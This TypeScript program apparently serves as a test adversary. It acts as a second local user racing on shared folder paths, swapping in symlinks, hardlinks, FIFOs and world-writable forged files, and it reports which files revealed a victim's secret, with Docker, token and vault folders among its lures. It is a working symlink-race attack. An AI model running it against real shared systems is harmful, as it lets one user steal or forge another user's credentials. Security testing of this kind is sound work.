import { execFileSync } from "node:child_process";
import {
  closeSync,
  constants,
  fstatSync,
  linkSync,
  lstatSync,
  mkdirSync,
  openSync,
  readdirSync,
  readSync,
  renameSync,
  rmSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { basename, join } from "node:path";

// A program of its own: another user of the machine, who exchanges paths in the folder that the program was started in, until
// SIGTERM. It imports nothing of this project, which that user may not be able to read.

/** What the other user knows and wants, as JSON in the only argument. */
export interface Orders {
  /** Names in the current folder, to exchange. */
  readonly targets: readonly string[];
  /** By name, what the victim would believe if the files were its own. */
  readonly forged: Readonly<Record<string, string>>;
  /** Files and folders of the victim that links lead to. */
  readonly decoys: readonly string[];
  /** A part of every secret. */
  readonly mark: string;
}

/** What came of it, as JSON in the last line of the output. */
export interface Booty {
  /** How often the other user had something at a path. */
  readonly exchanges: number;
  /** The files in which the other user read a secret. */
  readonly secrets: readonly string[];
}

const orders: Orders = JSON.parse(process.argv[2] ?? "");
const OWN = `.eve-${process.pid}`;
/** In the same folder: a folder of another user cannot get a different parent. */
const ASIDE = `${OWN}-aside`;
const ABSOLUTE = join(process.cwd(), OWN);
const MAX_READ_BYTES = 128 * 1024;
const MAX_PAUSE_MS = 3;
const FUTURE = new Date("2037-01-01");
/** Every folder below a home folder, a state folder or a vault. */
const FOLDERS = [
  "",
  ".docker",
  ".local/state/registry-login/answers",
  "answers",
  "discovered",
  "stored",
  "tokens",
  "vault",
];

/** Descriptors that stay open while somebody else may write into what they lead to. */
type Handles = number[];

/** Puts something at a path that is free. */
const KINDS: readonly ((path: string, handles: Handles) => void)[] = [
  (path) => symlinkSync(pick(orders.decoys), path),
  (path) => symlinkSync(join(pick(orders.decoys), "nothing"), path),
  (path) => symlinkSync("/dev/zero", path),
  (path) => {
    forgeFolder(join(OWN, "folder"));
    symlinkSync(join(ABSOLUTE, "folder"), path);
  },
  (path, handles) => {
    forgeFile(join(OWN, basename(path)), handles);
    symlinkSync(join(ABSOLUTE, basename(path)), path);
  },
  (path, handles) => {
    forgeFile(join(OWN, basename(path)), handles);
    linkSync(join(OWN, basename(path)), path);
  },
  (path) => linkSync(pick(orders.decoys), path),
  forgeFile,
  forgeFolder,
  (path, handles) => {
    linkSync(join(OWN, "fifo"), path);
    handles.push(openSync(path, constants.O_RDONLY | constants.O_NONBLOCK));
  },
  (path) => linkSync(join(OWN, "fifo"), path),
];

/** A file that everybody may read and write. */
function forgeFile(path: string, handles: Handles): void {
  rmSync(path, { recursive: true, force: true });
  const handle = openSync(path, "wx+", 0o666);
  handles.push(handle);
  writeFileSync(handle, orders.forged[basename(path)] ?? "{}");
  utimesSync(path, FUTURE, FUTURE);
}

/** A folder that everybody may use, with everything in it that the victim may look for. */
function forgeFolder(path: string): void {
  rmSync(path, { recursive: true, force: true });
  for (const folder of FOLDERS.map((name) => join(path, name))) {
    mkdirSync(folder, { recursive: true });
    for (const [name, text] of Object.entries(orders.forged)) {
      writeFileSync(join(folder, name), text);
      utimesSync(join(folder, name), FUTURE, FUTURE);
    }
  }
}

const secrets = new Set<string>();
let exchanges = 0;

/** Takes what is at a path away, puts something there for a moment, and mostly puts back what was there. */
function exchange(target: string): void {
  const wasThere = tries(() => renameSync(target, ASIDE));
  if (wasThere) search(ASIDE);
  const handles: Handles = [];
  if (tries(() => pick(KINDS)(target, handles))) {
    exchanges++;
    pause(Math.random() * MAX_PAUSE_MS);
  }
  for (const handle of handles) searchHandle(target, handle);
  search(target);
  if (Math.random() < 0.7) tries(() => rmSync(target, { recursive: true }));
  if (wasThere && !tries(() => renameSync(ASIDE, target))) tries(() => rmSync(ASIDE, { recursive: true }));
}

/** Reads every file below a path that this user may read. */
function search(path: string): void {
  tries(() => {
    const stats = lstatSync(path);
    if (stats.isDirectory()) for (const name of readdirSync(path)) search(join(path, name));
    else if (stats.isFile())
      searchHandle(path, openSync(path, constants.O_RDONLY | constants.O_NOFOLLOW | constants.O_NONBLOCK));
  });
}

function searchHandle(path: string, handle: number): void {
  const bytes = Buffer.alloc(MAX_READ_BYTES);
  tries(() => {
    const length = readSync(handle, bytes, 0, bytes.length, fstatSync(handle).isFile() ? 0 : null);
    if (bytes.toString("latin1", 0, length).includes(orders.mark)) secrets.add(path);
  });
  closeSync(handle);
}

function pause(ms: number): void {
  Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ms);
}

function pick<T>(from: readonly T[]): T {
  return from[Math.floor(Math.random() * from.length)] as T;
}

/** What others do to the same paths meanwhile fails some of the calls. */
function tries(work: () => void): boolean {
  try {
    work();
    return true;
  } catch {
    return false;
  }
}

process.umask(0);
mkdirSync(OWN);
execFileSync("mkfifo", [join(OWN, "fifo")]);
const timer = setInterval(() => {
  for (const target of orders.targets) exchange(target);
  search(".");
}, 0);
process.once("SIGTERM", () => {
  clearInterval(timer);
  // A victim may have left something in it.
  tries(() => rmSync(OWN, { recursive: true, force: true }));
  console.log(JSON.stringify({ exchanges, secrets: [...secrets] } satisfies Booty));
});
console.log("ready");
